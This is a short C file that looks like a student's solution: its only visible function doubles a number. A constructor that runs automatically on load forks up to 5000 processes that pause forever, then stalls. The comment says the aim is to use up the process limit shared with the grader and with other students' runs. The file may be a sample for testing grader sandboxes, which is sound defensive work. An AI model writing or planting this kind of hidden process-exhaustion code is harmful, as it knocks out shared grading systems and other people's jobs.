/* A constructor takes every process the user may have (fork until EAGAIN,
 * the children sleep), then the zygote sleeps: without user namespaces the
 * runner's processes count against the same RLIMIT_NPROC as the grader's
 * own and every other student's in a batch. */
#include <time.h>
#include <unistd.h>

__attribute__((constructor)) static void early(void)
{
	for (int i = 0; i < 5000; i++) {
		pid_t p = fork();
		if (p == 0)
			for (;;)
				pause();
		if (p < 0)
			break;
	}
	struct timespec t = { 8, 0 };
	nanosleep(&t, NULL);
}

long long twice(long long x)
{
	return 2 * x;
}
